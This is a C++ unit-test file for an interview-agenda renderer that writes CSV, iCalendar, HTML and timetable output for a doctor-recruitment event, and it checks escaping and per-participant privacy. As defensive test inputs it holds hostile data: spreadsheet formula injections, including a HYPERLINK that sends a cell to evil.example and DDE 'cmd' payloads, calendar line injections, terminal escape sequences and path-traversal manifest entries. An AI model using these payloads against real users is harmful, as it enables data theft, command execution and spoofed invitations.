// Agenda rendering: every interview appears once in the right file, and every format's
// rules hold (CSV quoting, iCalendar line length, CRLF and escaping, HTML escaping).
#include "clients/agenda.h"

#include <libical/ical.h>

#include <cstring>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>

#include "absl/strings/match.h"
#include "absl/strings/str_replace.h"
#include "absl/strings/str_split.h"
#include "absl/strings/strip.h"
#include "clients/agenda_text.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace matching::clients {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

AgendaDetails English() {
  AgendaDetails details;
  details.french = false;
  return details;
}

AgendaDetails WithTitles(OfferTitles titles) {
  AgendaDetails details;
  details.titles = std::move(titles);
  return details;
}

v1::Event PlannedEvent() {
  v1::Event event;
  event.set_id("ev-1");
  event.set_name("Job dating, Meurthe-et-Moselle; <Paris>");
  event.set_place("Maison de la Lorraine, Paris");
  event.set_date("2027-03-12");
  for (const auto& [id, start] : {std::pair{"s2", "09:20"}, std::pair{"s1", "09:00"}}) {
    v1::Slot* slot = event.add_slots();
    slot->set_id(id);
    slot->set_start_time(start);
    slot->set_duration_minutes(20);
  }
  v1::Booth* booth = event.add_booths();
  booth->set_id("b-luneville");
  booth->set_label("MSP de Lunéville & environs");
  booth->add_offer_ids("of-luneville-msp");
  event.add_booths()->set_id("b-toul");
  for (const char* c : {"cand-1", "cand-2", "cand-3"})
    event.add_registrations()->set_candidate_id(c);
  auto add = [&](const char* candidate, const char* booth_id, const char* slot, const char* start) {
    v1::Interview* i = event.mutable_plan()->add_interviews();
    i->set_candidate_id(candidate);
    i->set_booth_id(booth_id);
    i->set_slot_id(slot);
    i->set_start_time(start);
    i->set_duration_minutes(20);
    i->set_offer_id("of-x");
    i->set_score(0.75);
  };
  add("cand-1", "b-luneville", "s2", "09:20");
  add("cand-2", "b-luneville", "s1", "09:00");
  add("cand-1", "b-toul", "s1", "09:00");
  event.mutable_plan()->set_registrants_served(2);
  event.mutable_plan()->set_total_score(2.25);
  event.mutable_plan()->set_upper_bound(2.25);
  event.mutable_plan()->set_plan_time("2026-11-23T10:00:00Z");
  return event;
}

TEST(AgendaTest, CsvHasOneQuotedRowPerInterview) {
  const std::string csv = AgendaCsv(PlannedEvent(), English());
  std::vector<std::string> lines = absl::StrSplit(csv, "\r\n", absl::SkipEmpty());
  ASSERT_EQ(lines.size(), 4u);
  EXPECT_EQ(lines[0],
            "event_id,date,start,end,slot_id,booth_id,booth_label,candidate_id,offer_id,score");
  // libcsv quotes every field and doubles inner quotes (RFC 4180).
  EXPECT_THAT(lines[1], HasSubstr("\"09:20\",\"09:40\",\"s2\",\"b-luneville\","));
  EXPECT_THAT(csv, HasSubstr("\"MSP de Lunéville & environs\""));
  v1::Event quoted = PlannedEvent();
  quoted.mutable_booths(0)->set_label("MSP \"Les Tilleuls\", Lunéville");
  EXPECT_THAT(AgendaCsv(quoted, English()), HasSubstr("\"MSP \"\"Les Tilleuls\"\", Lunéville\""));
}

TEST(AgendaTest, CsvCellsThatSpreadsheetsTakeForFormulasAreNeutralised) {
  v1::Event event = PlannedEvent();
  event.mutable_booths(0)->set_label("=HYPERLINK(\"http://evil.example/?\"&H2,\"Voir\")");
  event.mutable_plan()->mutable_interviews(1)->set_candidate_id("@SUM(1+1)*cmd|' /C calc'!A0");
  event.mutable_plan()->mutable_interviews(2)->set_offer_id("-2+3");
  event.mutable_plan()->mutable_interviews(2)->set_score(-0.5);
  const std::string csv = AgendaCsv(event, English());
  EXPECT_THAT(csv, HasSubstr(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&H2,\"\"Voir\"\")\","));
  EXPECT_THAT(csv, HasSubstr(",\"'@SUM(1+1)*cmd|' /C calc'!A0\","));
  EXPECT_THAT(csv, HasSubstr(",\"'-2+3\","));
  EXPECT_THAT(csv, HasSubstr(",\"-0.500\"\r\n"));  // a score we format stays a number
  // No cell, once unquoted, starts with a formula character.
  for (absl::string_view line : absl::StrSplit(csv, "\r\n", absl::SkipEmpty())) {
    for (absl::string_view cell : absl::StrSplit(line, "\",\"")) {
      cell = absl::StripPrefix(cell, "\"");
      if (cell == "-0.500\"") continue;
      ASSERT_FALSE(cell.empty()) << line;
      EXPECT_EQ(absl::string_view("=+-@\t\r").find(cell.front()), absl::string_view::npos) << line;
    }
  }
}

TEST(AgendaTest, CandidateCalendarHoldsTheirInterviewsInTimeOrder) {
  const std::string ics = AgendaIcs(PlannedEvent(), {Participant::Kind::kCandidate, "cand-1"});
  EXPECT_THAT(ics, ::testing::StartsWith("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"));
  EXPECT_THAT(ics, ::testing::EndsWith("END:VCALENDAR\r\n"));
  const size_t first = ics.find("DTSTART;TZID=Europe/Paris:20270312T090000");
  const size_t second = ics.find("DTSTART;TZID=Europe/Paris:20270312T092000");
  ASSERT_NE(first, std::string::npos) << ics;
  ASSERT_NE(second, std::string::npos);
  EXPECT_LT(first, second);
  EXPECT_THAT(ics, HasSubstr("DTEND;TZID=Europe/Paris:20270312T094000"));
  EXPECT_THAT(ics, HasSubstr("UID:ev-1-b-toul-cand-1@matchd"));
  EXPECT_THAT(ics, HasSubstr("DTSTAMP:20261123T100000Z"));
  EXPECT_THAT(ics, HasSubstr("LOCATION:Maison de la Lorraine\\, Paris"));
  EXPECT_THAT(ics, HasSubstr("BEGIN:VTIMEZONE\r\nTZID:Europe/Paris"));
  EXPECT_THAT(ics, Not(HasSubstr("cand-2")));
  size_t events = 0;
  for (size_t at = ics.find("BEGIN:VEVENT"); at != std::string::npos;
       at = ics.find("BEGIN:VEVENT", at + 1)) {
    ++events;
  }
  EXPECT_EQ(events, 2u);
}

TEST(AgendaTest, CalendarLinesAreFoldedAt75OctetsWithCrlf) {
  v1::Event event = PlannedEvent();
  event.set_place(std::string(200, 'e') + "é" + std::string(100, 'x'));
  const std::string ics = AgendaIcs(event, {Participant::Kind::kBooth, "b-luneville"});
  for (absl::string_view line : absl::StrSplit(ics, "\r\n")) {
    EXPECT_LE(line.size(), 75u) << line;
    EXPECT_EQ(line.find('\n'), absl::string_view::npos);
  }
  // Unfolding (remove CRLF + space) gives back the value, accents intact.
  std::string unfolded = ics;
  for (size_t at; (at = unfolded.find("\r\n ")) != std::string::npos;) unfolded.erase(at, 3);
  EXPECT_THAT(unfolded, HasSubstr(std::string(200, 'e') + "é" + std::string(100, 'x')));
}

// The calendar's content lines as a lenient parser would see them: unfolded, then split on
// every line break some parser honours (CR or LF alone, VT, FF, FS, GS, RS, NEL, U+2028,
// U+2029: Python's str.splitlines() takes them all).
std::vector<std::string> LenientLines(std::string ics) {
  for (const char* fold : {"\r\n ", "\r\n\t"}) {
    for (size_t at; (at = ics.find(fold)) != std::string::npos;) ics.erase(at, 3);
  }
  for (const char* line_break : {"\xc2\x85", "\xe2\x80\xa8", "\xe2\x80\xa9"}) {
    for (size_t at; (at = ics.find(line_break)) != std::string::npos;)
      ics.replace(at, std::strlen(line_break), "\n");
  }
  return absl::StrSplit(ics, absl::ByAnyChar("\r\n\v\f\x1c\x1d\x1e"), absl::SkipEmpty());
}

struct IcalFree {
  void operator()(icalcomponent* component) const { icalcomponent_free(component); }
};

std::vector<std::string> PropertyTexts(icalcomponent* calendar, icalproperty_kind kind) {
  std::vector<std::string> texts;
  for (icalcomponent* e = icalcomponent_get_first_component(calendar, ICAL_VEVENT_COMPONENT);
       e != nullptr; e = icalcomponent_get_next_component(calendar, ICAL_VEVENT_COMPONENT)) {
    for (icalproperty* p = icalcomponent_get_first_property(e, kind); p != nullptr;
         p = icalcomponent_get_next_property(e, kind)) {
      texts.push_back(icalvalue_as_ical_string(icalproperty_get_value(p)));
    }
  }
  return texts;
}

TEST(AgendaTest, CalendarTextCannotStartANewContentLine) {
  v1::Event event = PlannedEvent();
  event.mutable_booths(0)->set_label("Bar\rORGANIZER:mailto:boss@evil.example");
  event.set_name("Job dating\vATTENDEE:mailto:a@evil.example\x1b[2J");
  event.set_place("Nancy\xc2\x85ORGANIZER:mailto:nel@evil.example");
  const AgendaDetails titles =
      WithTitles({{"of-x", "MSP\xe2\x80\xa8ORGANIZER:mailto:ls@evil.example\x7f"}});
  for (const Participant& who : {Participant{Participant::Kind::kCandidate, "cand-1"},
                                 Participant{Participant::Kind::kBooth, "b-luneville"}}) {
    const std::string ics = AgendaIcs(event, who, titles);
    for (const std::string& line : LenientLines(ics)) {
      EXPECT_FALSE(absl::StartsWith(line, "ORGANIZER")) << line;
      EXPECT_FALSE(absl::StartsWith(line, "ATTENDEE")) << line;
    }
    // No control character anywhere but the CRLF that end lines.
    for (size_t i = 0; i < ics.size(); ++i) {
      const auto byte = static_cast<unsigned char>(ics[i]);
      if (byte == '\r') {
        EXPECT_EQ(ics[i + 1], '\n') << i;
      }
      if (byte == '\n') {
        EXPECT_EQ(ics[i - 1], '\r') << i;
      }
      EXPECT_TRUE(byte >= 0x20 || byte == '\r' || byte == '\n') << i << ": " << ics;
      EXPECT_NE(byte, 0x7F);
      if (byte == 0xC2) {
        EXPECT_GT(static_cast<unsigned char>(ics[i + 1]), 0x9F) << i;
      }
    }
    // libical reads it back: no organizer or attendee, the label kept as text.
    std::unique_ptr<icalcomponent, IcalFree> parsed(icalparser_parse_string(ics.c_str()));
    ASSERT_NE(parsed, nullptr);
    EXPECT_EQ(icalcomponent_count_components(parsed.get(), ICAL_VEVENT_COMPONENT), 2);
    EXPECT_THAT(PropertyTexts(parsed.get(), ICAL_ORGANIZER_PROPERTY), ::testing::IsEmpty());
    EXPECT_THAT(PropertyTexts(parsed.get(), ICAL_ATTENDEE_PROPERTY), ::testing::IsEmpty());
    EXPECT_THAT(PropertyTexts(parsed.get(), ICAL_LOCATION_PROPERTY),
                ::testing::Each("Nancy ORGANIZER:mailto:nel@evil.example"));
  }
  std::unique_ptr<icalcomponent, IcalFree> booth(icalparser_parse_string(
      AgendaIcs(event, {Participant::Kind::kCandidate, "cand-1"}, titles).c_str()));
  EXPECT_THAT(PropertyTexts(booth.get(), ICAL_SUMMARY_PROPERTY),
              ::testing::Contains("Entretien — Recruteur Bar ORGANIZER:mailto:boss@evil.example"));
}

TEST(AgendaTest, CalendarParsesBackWithLibical) {
  const std::string ics = AgendaIcs(PlannedEvent(), {Participant::Kind::kCandidate, "cand-1"},
                                    WithTitles({{"of-x", "Médecin généraliste; MSP, Lunéville"}}));
  std::unique_ptr<icalcomponent, IcalFree> calendar(icalparser_parse_string(ics.c_str()));
  ASSERT_NE(calendar, nullptr);
  EXPECT_EQ(icalcomponent_count_components(calendar.get(), ICAL_VTIMEZONE_COMPONENT), 1);
  icalcomponent* first = icalcomponent_get_first_component(calendar.get(), ICAL_VEVENT_COMPONENT);
  ASSERT_NE(first, nullptr);
  icalproperty* start = icalcomponent_get_first_property(first, ICAL_DTSTART_PROPERTY);
  ASSERT_NE(start, nullptr);
  icalparameter* tzid = icalproperty_get_first_parameter(start, ICAL_TZID_PARAMETER);
  ASSERT_NE(tzid, nullptr);
  EXPECT_STREQ(icalparameter_get_tzid(tzid), "Europe/Paris");
  EXPECT_STREQ(icaltime_as_ical_string(icalproperty_get_dtstart(start)), "20270312T090000");
  EXPECT_STREQ(icalcomponent_get_summary(first), "Entretien — Recruteur b-toul");
  EXPECT_STREQ(icalcomponent_get_location(first), "Maison de la Lorraine, Paris");
  EXPECT_STREQ(icalcomponent_get_description(first),
               "Job dating, Meurthe-et-Moselle; <Paris>\noffre : Médecin généraliste; MSP, "
               "Lunéville");  // a candidate's calendar carries no score
  EXPECT_STREQ(icalcomponent_get_uid(first), "ev-1-b-toul-cand-1@matchd");
  EXPECT_STREQ(icaltime_as_ical_string(icalcomponent_get_dtend(first)), "20270312T092000");
}

TEST(AgendaTest, HtmlIsEscapedAndPerParticipant) {
  const v1::Event event = PlannedEvent();
  const std::string booth = AgendaHtml(event, {Participant::Kind::kBooth, "b-luneville"});
  EXPECT_THAT(booth, HasSubstr("&lt;Paris&gt;"));
  EXPECT_THAT(booth, Not(HasSubstr("<Paris>")));
  EXPECT_THAT(booth, HasSubstr("MSP de Lunéville &amp; environs"));
  EXPECT_THAT(booth, HasSubstr("cand-1"));
  EXPECT_THAT(booth, HasSubstr("cand-2"));
  EXPECT_LT(booth.find("cand-2"), booth.find("cand-1"));  // 09:00 before 09:20
  const std::string titled =
      AgendaHtml(event, {Participant::Kind::kCandidate, "cand-1"},
                 WithTitles({{"of-x", "Médecin généraliste en MSP, Lunéville"}}));
  EXPECT_THAT(titled, HasSubstr("Médecin généraliste en MSP, Lunéville"));
  const std::string idle = AgendaHtml(event, {Participant::Kind::kCandidate, "cand-3"});
  EXPECT_THAT(idle, HasSubstr("Aucun entretien"));
  const std::string index = AgendaIndexHtml(event);
  EXPECT_THAT(index, HasSubstr("href=\"html/candidate-cand-3.html\""));
  EXPECT_THAT(index, HasSubstr("href=\"html/booth-b-toul.html\""));
}

TEST(AgendaTest, TimetableIsSlotsByBoothsInTimeOrderWithTheSummary) {
  const std::string table = Timetable(PlannedEvent());
  const size_t early = table.find("09:00-09:20");
  const size_t late = table.find("09:20-09:40");
  ASSERT_NE(early, std::string::npos) << table;
  EXPECT_LT(early, late);
  EXPECT_THAT(table, HasSubstr("MSP de Lunéville & environs"));
  EXPECT_THAT(table, HasSubstr("3 interviews, 2 of 3 registrants served"));
}

TEST(AgendaTest, TimetableShowsEscapeSequencesFromTheEventEscaped) {
  v1::Event event = PlannedEvent();
  event.set_name("Job dating\x1b]0;owned\x07");
  event.set_place("Nancy\x1b[2J");
  event.mutable_booths(0)->set_label(
      "MSP\x1b[31m\xc2\x9b"
      "2J");
  const std::string table = Timetable(event);
  for (char c : table) {
    EXPECT_TRUE(c == '\n' || static_cast<unsigned char>(c) >= 0x20) << table;
  }
  EXPECT_THAT(table,
              HasSubstr("Job dating\\x1b]0;owned\\x07 — Friday 12 March 2027, Nancy\\x1b[2J"));
  EXPECT_THAT(table, HasSubstr("MSP\\x1b[31m\\u009b2J"));
}

TEST(AgendaTest, WritesEveryFile) {
  const std::string dir = ::testing::TempDir() + "/agenda-test";
  std::filesystem::remove_all(dir);
  AgendaWriteReport report;
  ASSERT_TRUE(WriteAgendas(PlannedEvent(), dir, {}, &report).ok());
  // csv, programme, index, and ics + html for 3 candidates and 2 booths
  EXPECT_EQ(report.written, 3 + 2 * 5);
  EXPECT_EQ(report.removed, 0);
  EXPECT_TRUE(std::filesystem::exists(dir + "/programme.html"));
  EXPECT_TRUE(std::filesystem::exists(dir + "/ics/candidate-cand-1.ics"));
  EXPECT_TRUE(std::filesystem::exists(dir + "/html/booth-b-toul.html"));
}

// A briefing as GetAgenda gives it for a booth: who, what they look for, why this meeting.
v1::InterviewBriefing BoothBriefing(const std::string& candidate, const std::string& booth) {
  v1::InterviewBriefing b;
  b.set_candidate_id(candidate);
  b.set_booth_id(booth);
  b.set_offer_id("of-x");
  b.set_offer_title("Médecin généraliste en MSP");
  b.set_territory_name("Lunéville");
  v1::CandidateSummary* s = b.mutable_candidate_summary();
  s->set_profession(v1::PROFESSION_SPECIALIST);
  s->set_specialty("cardiologie");
  s->set_experience_years(9);
  s->set_has_partner(true);
  s->set_partner_needs_job(true);
  s->set_partner_sector("health");
  s->add_children_ages(2);
  s->add_children_ages(7);
  s->set_children_count(2);
  s->set_available_from("2027-01-04");
  s->set_current_department("75");
  s->set_home_distance_km(280);
  b.add_looks_for("Exercice : maison de santé (MSP)");
  b.add_looks_for("≤ 50 min de <Nancy>");
  v1::CriterionScore* reason = b.add_reasons();
  reason->set_criterion("family");
  reason->set_explanation("Crèche et école primaire dans la commune");
  return b;
}

// A briefing as GetAgenda gives it for a candidate: what the territory offers.
v1::InterviewBriefing CandidateBriefing(const std::string& candidate, const std::string& booth) {
  v1::InterviewBriefing b;
  b.set_candidate_id(candidate);
  b.set_booth_id(booth);
  b.set_offer_id("of-x");
  v1::CriterionScore* reason = b.add_reasons();
  reason->set_criterion("housing");
  reason->set_explanation("Logement fourni 6 mois");
  reason->set_value(0.75);
  reason->set_contribution(0.75);
  return b;
}

AgendaDetails Briefed() {
  AgendaDetails details = WithTitles({{"of-x", "Médecin généraliste en MSP, Lunéville"}});
  const v1::Event event = PlannedEvent();
  for (const v1::Interview& i : event.plan().interviews()) {
    details.for_booths[{i.candidate_id(), i.booth_id()}] =
        BoothBriefing(i.candidate_id(), i.booth_id());
    details.for_candidates[{i.candidate_id(), i.booth_id()}] =
        CandidateBriefing(i.candidate_id(), i.booth_id());
  }
  return details;
}

TEST(AgendaTest, FrenchDates) {
  EXPECT_EQ(agenda_text::LongDate("2027-03-12", true), "vendredi 12 mars 2027");
  EXPECT_EQ(agenda_text::LongDate("2027-08-01", true), "dimanche 1er août 2027");
  EXPECT_EQ(agenda_text::LongDate("2027-03-12", false), "Friday 12 March 2027");
  EXPECT_EQ(agenda_text::ShortDate("2027-03-02", true), "02/03/2027");
  EXPECT_EQ(agenda_text::ShortDate("2027-03-02", false), "2027-03-02");
  EXPECT_EQ(agenda_text::LongDate("not a date", true), "not a date");
  EXPECT_EQ(agenda_text::Decimal(0.75, 3, true), "0,750");
  v1::CandidateSummary baby;
  baby.set_children_count(1);
  baby.add_children_ages(1);
  EXPECT_EQ(agenda_text::HouseholdLine(baby, true), "Seul(e), 1 enfant (1 an)");
}

TEST(AgendaTest, CsvForFrenchExcelHasABomSemicolonsAndFrenchDates) {
  v1::Event event = PlannedEvent();
  event.mutable_booths(0)->set_label("=cmd|' /C calc'!A0; Lunéville");
  const std::string csv = AgendaCsv(event);  // French is the default
  ASSERT_TRUE(absl::StartsWith(csv, "\xEF\xBB\xBF")) << "no UTF-8 byte order mark";
  std::vector<std::string> lines = absl::StrSplit(csv.substr(3), "\r\n", absl::SkipEmpty());
  ASSERT_EQ(lines.size(), 4u);
  EXPECT_EQ(lines[0], "événement;date;début;fin;créneau;stand;recruteur;candidat;offre;score");
  EXPECT_EQ(lines[1],
            "\"ev-1\";\"12/03/2027\";\"09:20\";\"09:40\";\"s2\";\"b-luneville\";"
            "\"'=cmd|' /C calc'!A0; Lunéville\";\"cand-1\";\"of-x\";\"0,750\"");
  // Ten cells a row once the quoted separators inside cells are left aside.
  for (const std::string& line : lines) {
    if (line == lines[0]) continue;
    EXPECT_EQ(std::vector<std::string>(absl::StrSplit(line, "\";\"")).size(), 10u) << line;
  }
}

TEST(AgendaTest, CandidateAgendaNeverShowsAScore) {
  v1::Event event = PlannedEvent();
  event.mutable_plan()->mutable_interviews(0)->set_score(0.4321);
  event.mutable_plan()->mutable_interviews(2)->set_score(0.8765);
  const AgendaDetails details = Briefed();
  const Participant who{Participant::Kind::kCandidate, "cand-1"};
  // The calendar unfolded and unescaped, as a calendar application shows it.
  std::string ics = AgendaIcs(event, who, details);
  for (size_t at; (at = ics.find("\r\n ")) != std::string::npos;) ics.erase(at, 3);
  ics = absl::StrReplaceAll(ics, {{"\\,", ","}, {"\\;", ";"}});
  for (const std::string& page : {AgendaHtml(event, who, details), ics}) {
    EXPECT_THAT(page, Not(HasSubstr("core")));  // neither "Score" nor "score"
    for (const char* number : {"0,43", "0.43", "0,88", "0.88", "0,75", "0.75"}) {
      EXPECT_THAT(page, Not(HasSubstr(number))) << page;
    }
    // The offer, the place, the time, and what the territory offers the household.
    EXPECT_THAT(page, HasSubstr("Médecin généraliste en MSP, Lunéville"));
    EXPECT_THAT(page, HasSubstr("Logement fourni 6 mois"));
    EXPECT_THAT(page, HasSubstr("Ce que le territoire offre à votre foyer"));
    // Nothing of the recruiter's briefing.
    EXPECT_THAT(page, Not(HasSubstr("cardiologie")));
  }
  EXPECT_THAT(AgendaHtml(event, who, details), HasSubstr("09:20–09:40"));
  EXPECT_THAT(AgendaHtml(event, who, details), HasSubstr("vendredi 12 mars 2027"));
}

TEST(AgendaTest, BoothAgendaBriefsTheRecruiterOnEachCandidate) {
  const v1::Event event = PlannedEvent();
  const AgendaDetails details = Briefed();
  const Participant who{Participant::Kind::kBooth, "b-luneville"};
  const std::string html = AgendaHtml(event, who, details);
  for (const char* expected :
       {"Médecin spécialiste (cardiologie), 9 ans d&#39;expérience",
        "En couple (le conjoint cherche un emploi : health), 2 enfants (2 et 7 ans)",
        "Disponible à partir du lundi 4 janvier 2027", "Vit dans le département 75, à 280 km",
        "Exercice : maison de santé (MSP) ; ≤ 50 min de &lt;Nancy&gt;",
        "Points forts de la rencontre", "Crèche et école primaire dans la commune"}) {
    EXPECT_THAT(html, HasSubstr(expected));
  }
  EXPECT_THAT(html, Not(HasSubstr("<Nancy>")));
  const std::string ics = AgendaIcs(event, who, details);
  std::unique_ptr<icalcomponent, IcalFree> calendar(icalparser_parse_string(ics.c_str()));
  ASSERT_NE(calendar, nullptr);
  const std::vector<std::string> descriptions =
      PropertyTexts(calendar.get(), ICAL_DESCRIPTION_PROPERTY);
  ASSERT_EQ(descriptions.size(), 2u);
  EXPECT_THAT(descriptions[0], HasSubstr("Profil : Médecin spécialiste (cardiologie)"));
  // A household no longer visible to recruiters: no profile, said so.
  AgendaDetails hidden = details;
  hidden.for_booths[{"cand-1", "b-luneville"}].clear_candidate_summary();
  hidden.for_booths[{"cand-1", "b-luneville"}].clear_looks_for();
  EXPECT_THAT(AgendaHtml(event, who, hidden), HasSubstr("non communiqué"));
  // English.
  AgendaDetails english = details;
  english.french = false;
  EXPECT_THAT(AgendaHtml(event, who, english),
              HasSubstr("Specialist doctor (cardiologie), 9 years of experience"));
}

TEST(AgendaTest, ProgrammeIsEveryBoothBySlotOnOnePage) {
  v1::Event event = PlannedEvent();
  event.mutable_booths(1)->set_label("<b>Toul</b>");
  v1::UnservedRegistrant* left = event.mutable_plan()->add_unserved();
  left->set_candidate_id("cand-3");
  left->set_reason(v1::UNSERVED_REASON_NO_COMMON_SLOT);
  const std::string page = ProgrammeHtml(event);
  EXPECT_THAT(page, HasSubstr("@page{size:A4 landscape"));
  EXPECT_THAT(page, HasSubstr("&lt;b&gt;Toul&lt;/b&gt;"));
  EXPECT_THAT(page, Not(HasSubstr("<b>Toul")));
  EXPECT_THAT(page, Not(HasSubstr("<script")));
  EXPECT_THAT(page, Not(HasSubstr("0,75")));
  // Rows in time order; 09:00: cand-2 at Lunéville, cand-1 at Toul.
  const size_t nine = page.find("data-slot=\"s1\"");
  const size_t nine_twenty = page.find("data-slot=\"s2\"");
  ASSERT_NE(nine, std::string::npos);
  EXPECT_LT(nine, nine_twenty);
  EXPECT_THAT(
      page.substr(nine, nine_twenty - nine),
      ::testing::ContainsRegex("<td class=\"met\">cand-2</td><td class=\"met\">cand-1</td>"));
  EXPECT_THAT(page.substr(nine_twenty),
              ::testing::ContainsRegex("<td class=\"met\">cand-1</td><td class=\"free\">"));
  EXPECT_THAT(page, HasSubstr("cand-3 : aucun créneau commun"));
}

TEST(AgendaTest, TimetableSaysWhoWasLeftOutAndWhy) {
  v1::Event event = PlannedEvent();
  event.set_min_score(0.5);
  v1::UnservedRegistrant* left = event.mutable_plan()->add_unserved();
  left->set_candidate_id("cand-3");
  left->set_reason(v1::UNSERVED_REASON_BELOW_MIN_SCORE);
  left->set_best_score(0.41);
  left->add_booth_ids("b-toul");
  v1::IdleBooth* idle = event.mutable_plan()->add_idle_booths();
  idle->set_booth_id("b-toul");
  idle->set_reason(v1::UNSERVED_REASON_NO_PROFESSION_MATCH);
  const std::string fr = Timetable(event, true);
  EXPECT_THAT(fr, HasSubstr("3 entretiens, 2 inscrits servis sur 3"));
  EXPECT_THAT(fr, HasSubstr("cand-3 : toutes les rencontres possibles sont sous le score minimum"));
  EXPECT_THAT(fr, HasSubstr("(meilleur 0,41 < minimum 0,50) ; stands : b-toul"));
  EXPECT_THAT(fr, HasSubstr("b-toul : aucun inscrit de la profession"));
  const std::string en = Timetable(event, false);
  EXPECT_THAT(en, HasSubstr("cand-3: every possible meeting scores below"));
  EXPECT_THAT(en, HasSubstr("b-toul: no registrant of its offers' profession"));
}

std::string ReadAll(const std::string& path) {
  std::ifstream in(path);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

TEST(AgendaTest, RewritingRemovesStaleAgendasAndKeepsTheUsersFiles) {
  namespace fs = std::filesystem;
  const std::string dir = ::testing::TempDir() + "/agenda-refresh";
  fs::remove_all(dir);
  AgendaWriteReport report;
  ASSERT_TRUE(WriteAgendas(PlannedEvent(), dir, {}, &report).ok());
  ASSERT_TRUE(fs::exists(dir + "/ics/candidate-cand-2.ics"));
  // The user's own files, some named like ours, and a manifest someone edited.
  for (const char* mine : {"/notes.txt", "/ics/my-meeting.ics", "/html/candidate-cand-9.html"}) {
    std::ofstream(dir + mine) << "mine";
  }
  std::ofstream(dir + "/../agenda-refresh-outside.txt") << "outside";
  std::ofstream(std::string(dir) + "/" + kAgendaManifest, std::ios::app)
      << "notes.txt\n../agenda-refresh-outside.txt\n/etc/hostname\nics/../notes.txt\n";

  // cand-2 cancelled: the re-plan no longer has them.
  v1::Event replanned = PlannedEvent();
  replanned.mutable_registrations()->DeleteSubrange(1, 1);
  auto* interviews = replanned.mutable_plan()->mutable_interviews();
  interviews->DeleteSubrange(1, 1);
  ASSERT_TRUE(WriteAgendas(replanned, dir, {}, &report).ok());
  EXPECT_EQ(report.removed, 2);
  EXPECT_FALSE(fs::exists(dir + "/ics/candidate-cand-2.ics"));
  EXPECT_FALSE(fs::exists(dir + "/html/candidate-cand-2.html"));
  EXPECT_TRUE(fs::exists(dir + "/ics/candidate-cand-1.ics"));
  EXPECT_EQ(ReadAll(dir + "/notes.txt"), "mine");
  EXPECT_EQ(ReadAll(dir + "/ics/my-meeting.ics"), "mine");
  EXPECT_EQ(ReadAll(dir + "/html/candidate-cand-9.html"), "mine");  // never written by us
  EXPECT_EQ(ReadAll(dir + "/../agenda-refresh-outside.txt"), "outside");
  EXPECT_THAT(ReadAll(dir + "/agenda.csv"), Not(HasSubstr("cand-2")));
  EXPECT_THAT(ReadAll(dir + "/index.html"), Not(HasSubstr("cand-2")));
  // The new manifest lists exactly what this run wrote.
  const std::string manifest = ReadAll(std::string(dir) + "/" + kAgendaManifest);
  EXPECT_THAT(manifest, HasSubstr("ics/candidate-cand-1.ics\n"));
  EXPECT_THAT(manifest, Not(HasSubstr("cand-2")));
  EXPECT_THAT(manifest, Not(HasSubstr("notes.txt")));
  fs::remove(dir + "/../agenda-refresh-outside.txt");
}

}  // namespace
}  // namespace matching::clients
